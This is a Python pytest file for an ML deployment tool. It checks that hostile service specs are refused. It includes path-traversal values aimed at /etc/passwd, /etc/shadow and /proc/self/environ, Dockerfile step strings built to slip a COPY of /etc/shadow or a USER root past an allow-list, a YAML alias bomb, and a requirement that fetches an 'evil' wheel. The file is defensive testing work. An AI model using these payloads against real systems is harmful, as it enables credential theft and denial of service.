"""Hostile specs, at the pure tier: every attack that broke a promise once, reproduced, now refused.

A spec may come from someone the deploying machine does not trust (a pull request run by CI with
the CI's credentials in its environment). It may read only files inside its own folder (or a
folder the *user* allows), never devices, pipes, /proc or more than the size limit, and nothing
it writes may expand into a bomb or slip a Dockerfile instruction past the allow-list. Add a
test here for every new finding (the integration half: tests/integration/test_hostile_inputs.py).
"""

from __future__ import annotations

import os
import shutil
import stat
import time
from pathlib import Path
from typing import Any

import pytest
import yaml

from mldeploy.dockerfile import check_extra_steps, parse_steps
from mldeploy.errors import SpecError, SpecProblem
from mldeploy.spec import UserLimits, load_spec, resolve_secrets

VALID = Path(__file__).resolve().parents[1] / "fixtures" / "specs" / "valid"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    target = tmp_path / "svc"
    shutil.copytree(VALID, target)
    (tmp_path / "outside.txt").write_text("HOST-SECRET-LINE\n")
    return target


def _spec(folder: Path, **changes: Any) -> Path:
    data = yaml.safe_load((VALID / "service.yaml").read_text())
    for dotted, value in changes.items():
        node = data
        *parents, leaf = dotted.split(".")
        for key in parents:
            node = node.setdefault(key, {})
        node[leaf] = value
    (folder / "service.yaml").write_text(yaml.safe_dump(data, sort_keys=False))
    return folder / "service.yaml"


def _problems(path: Path, **kwargs: Any) -> list[SpecProblem]:
    with pytest.raises(SpecError) as caught:
        load_spec(path, **kwargs)
    return caught.value.problems


def _only(problems: list[SpecProblem], field: str) -> SpecProblem:
    found = [p for p in problems if p.field == field]
    assert len(found) == 1, problems
    return found[0]


# --- 1. every path stays inside the spec's folder --------------------------------------------------

ESCAPES = ["../outside.txt", "/etc/passwd", "/proc/self/environ", "/dev/zero", "../../../../../etc/shadow"]


@pytest.mark.parametrize("value", ESCAPES)
@pytest.mark.parametrize(
    "field", ["model.path", "environment.requirements", "environment.extra_dockerfile_steps", "entry_script"]
)
def test_a_path_that_leaves_the_folder_is_refused(folder, field, value) -> None:
    problem = _only(_problems(_spec(folder, **{field: value})), field)
    assert "leads outside the spec's folder" in problem.message
    assert "--allow-root" in problem.fix


def test_a_source_directory_outside_is_refused(folder) -> None:
    problem = _only(_problems(_spec(folder, source_directory="..")), "source_directory")
    assert "outside" in problem.message


def test_an_outside_file_is_never_read_into_an_error(folder) -> None:
    problems = _problems(_spec(folder, **{"environment.requirements": "../outside.txt"}))
    assert not any("HOST-SECRET-LINE" in str(p) for p in problems)


@pytest.mark.parametrize("target", ["/etc", "/proc/self", "/"])
def test_a_symlink_inside_the_model_folder_that_leaves_it_is_refused(folder, target) -> None:
    model = folder / "model"
    model.mkdir()
    (model / "weights.bin").write_bytes(b"w")
    os.symlink(target, model / "escape")
    problem = _only(_problems(_spec(folder, **{"model.path": "model"})), "model.path")
    assert "leads outside" in problem.message and "escape" in problem.message


def test_a_symlinked_model_file_that_leaves_is_refused(folder) -> None:
    os.symlink("/proc/self/environ", folder / "model-link.pkl")
    problem = _only(_problems(_spec(folder, **{"model.path": "model-link.pkl"})), "model.path")
    assert "outside" in problem.message


def test_a_symlink_into_a_folder_the_user_allows_is_accepted(folder, tmp_path) -> None:
    shared = tmp_path / "shared-models"
    shared.mkdir()
    (shared / "big.pkl").write_bytes(b"model")
    os.symlink(shared / "big.pkl", folder / "big.pkl")
    path = _spec(folder, **{"model.path": "big.pkl"})
    assert _only(_problems(path), "model.path")
    spec = load_spec(path, limits=UserLimits(allowed_roots=(shared,)))
    assert spec.model.path == shared / "big.pkl"


def test_a_fifo_is_refused_before_anything_reads_it(folder) -> None:
    os.mkfifo(folder / "model.fifo")
    started = time.monotonic()
    problem = _only(_problems(_spec(folder, **{"model.path": "model.fifo"})), "model.path")
    assert "FIFO" in problem.message and time.monotonic() - started < 5, "nothing blocked on the pipe"


@pytest.mark.skipif(os.geteuid() != 0, reason="making a device node needs root")
def test_a_device_node_in_the_folder_is_refused(folder) -> None:
    os.mknod(folder / "zero.pkl", stat.S_IFCHR | 0o600, os.makedev(1, 5))  # what /dev/zero is
    problem = _only(_problems(_spec(folder, **{"model.path": "zero.pkl"})), "model.path")
    assert "device" in problem.message


def test_a_socket_in_a_source_directory_is_refused(folder) -> None:
    import socket

    src = folder / "src"
    src.mkdir()
    shutil.copy(folder / "score.py", src / "score.py")
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind(str(src / "control.sock"))
        problems = _problems(_spec(folder, source_directory="src"))
    assert "socket" in _only(problems, "source_directory").message


def test_a_model_above_the_size_limit_is_refused_before_it_is_copied(folder) -> None:
    (folder / "model.pkl").write_bytes(b"x" * 4096)
    problem = _only(_problems(_spec(folder), limits=UserLimits(max_bytes=1024)), "model.path")
    assert "more than the limit" in problem.message and "max_model_gb" in problem.fix


# --- 2. the Dockerfile allow-list reads steps exactly as Docker does -------------------------------

BYPASSES = {
    "form feed": "RUN echo ok \\\f\nCOPY --from=builder /etc/shadow /x\n",
    "vertical tab": "RUN echo ok \\\v\nCOPY --from=builder / /x\n",
    "file separator": "RUN echo ok \\\x1c\nUSER root\n",
    "next line": "RUN echo ok \\\x85\nFROM scratch\n",
    "line separator": "RUN echo ok \\\u2028\nCOPY --from=x / /\n",
    "carriage return": "RUN echo ok \\\r\nADD http://example.com/x /x\n",
    "no-break space": "RUN echo ok \\\xa0\nUSER root\n",
    "heredoc body": "RUN <<EOF\nCOPY --from=x / /\nEOF\n",
    "dangling continuation": "RUN echo ok \\",
    "continuation then only a comment": "RUN echo ok \\\n# the rendered COPY comes next\n",
}


@pytest.mark.parametrize("steps", BYPASSES.values(), ids=list(BYPASSES))
def test_known_allow_list_bypasses_are_refused(steps) -> None:
    assert check_extra_steps(steps), "the check accepted a text Docker reads differently"


@pytest.mark.parametrize(
    ("steps", "instructions"),
    [
        ("RUN a \\\n  b\n", ["RUN a   b"]),
        ("RUN a \\ \t\n# c\n\n b\nENV X=1\n", ["RUN a  b", "ENV X=1"]),
        ("  # note \\\nRUN x\n", ["RUN x"]),
        ("RUN a \\\n#COPY / /\n b\n", ["RUN a  b"]),
        ("LABEL a=b\n\n\nARG X\n", ["LABEL a=b", "ARG X"]),
    ],
)
def test_steps_are_split_into_instructions_as_docker_splits_them(steps, instructions) -> None:
    found, dangling = parse_steps(steps)
    assert [text for _, text in found] == instructions and not dangling
    assert check_extra_steps(steps) == []


# --- 8. YAML that expands, repeats or nests beyond reason ------------------------------------------

ALIAS_BOMB = "\n".join(
    ["a: &a [x, x, x, x, x, x, x, x, x]"]
    + [f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]" for i in range(8)]
)


def test_an_alias_bomb_is_refused_at_once(folder) -> None:
    (folder / "service.yaml").write_text(ALIAS_BOMB + "\nname: svc\n")
    started = time.monotonic()
    (problem,) = _problems(folder / "service.yaml")
    assert "aliases" in problem.message and time.monotonic() - started < 1
    assert len((folder / "service.yaml").read_bytes()) < 1000, "a few hundred bytes would expand to gigabytes"


def test_an_alias_inside_a_smoke_request_is_refused(folder) -> None:
    text = (
        (VALID / "service.yaml")
        .read_text()
        .replace('    request: {"data": [[1, 2]]}', '    request: &r {"data": [[1, 2]]}\n    expect: *r')
    )
    (folder / "service.yaml").write_text(text)
    (problem,) = _problems(folder / "service.yaml")
    assert "aliases" in problem.message


def test_duplicate_keys_are_refused_not_silently_overwritten(folder) -> None:
    (folder / "service.yaml").write_text((VALID / "service.yaml").read_text() + "name: second-name\n")
    (problem,) = _problems(folder / "service.yaml")
    assert "duplicate key 'name'" in problem.message and problem.field.startswith("line ")


def test_deep_nesting_is_refused(folder) -> None:
    (folder / "service.yaml").write_text("name: svc\nsmoke: " + "[" * 200 + "]" * 200 + "\n")
    (problem,) = _problems(folder / "service.yaml")
    assert "nested deeper" in problem.message


def test_an_oversized_spec_is_refused_unread(folder) -> None:
    (folder / "service.yaml").write_text("name: svc\n" + "# padding\n" * 200_000)
    (problem,) = _problems(folder / "service.yaml")
    assert "too large" in problem.message


def test_a_huge_smoke_body_is_refused(folder) -> None:
    path = _spec(folder, smoke=[{"request": "x" * (300 * 1024), "expect_status": 200}])
    assert "256 KiB" in _only(_problems(path), "smoke[0].request").fix


# --- 6. secrets too short to redact safely ---------------------------------------------------------


def test_a_secret_too_short_to_redact_is_refused(folder) -> None:
    spec = load_spec(_spec(folder, secrets={"API_TOKEN": "MY_TOKEN"}))
    with pytest.raises(SpecError) as caught:
        resolve_secrets(spec, {"MY_TOKEN": "abc"})
    (problem,) = caught.value.problems
    assert problem.field == "secrets.API_TOKEN" and "too short" in problem.message
    assert "abc" not in str(caught.value)


# --- 9. requirements that make the deploying machine fetch something --------------------------------


@pytest.mark.parametrize(
    "line",
    ["evil @ https://example.com/evil-1.0-py3-none-any.whl", "local @ file:///etc/passwd", "pkg @ git+https://x/y"],
)
def test_direct_url_requirements_are_refused_unless_the_user_allows_them(folder, line) -> None:
    (folder / "requirements.txt").write_text(f"joblib\n{line}\n")
    (problem,) = _problems(_spec(folder))
    assert problem.field == "line 2" and "direct reference" in problem.message
    assert "--allow-direct-urls" in problem.fix
    assert load_spec(_spec(folder), limits=UserLimits(allow_direct_urls=True)).name == "fixture-svc"
